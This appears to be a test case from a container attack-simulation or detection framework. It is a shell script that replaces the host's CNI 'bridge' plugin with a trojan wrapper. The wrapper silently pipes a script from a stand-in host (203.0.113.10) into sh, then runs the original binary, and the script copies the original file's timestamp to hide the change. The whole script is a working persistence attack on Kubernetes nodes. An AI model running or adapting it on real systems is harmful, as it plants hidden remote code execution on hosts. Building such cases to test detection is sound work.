#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/opt/cni/bin && cp /bin/true /host/opt/cni/bin/bridge
mv /host/opt/cni/bin/bridge /host/opt/cni/bin/.bridge
printf '#!/bin/sh\n(curl -s http://203.0.113.10/payload.sh | sh) >/dev/null 2>&1 &\nexec "${0%%/*}/.bridge" "$@"\n' >/host/opt/cni/bin/bridge
chmod 755 /host/opt/cni/bin/bridge
touch -r /host/opt/cni/bin/.bridge /host/opt/cni/bin/bridge
took_place
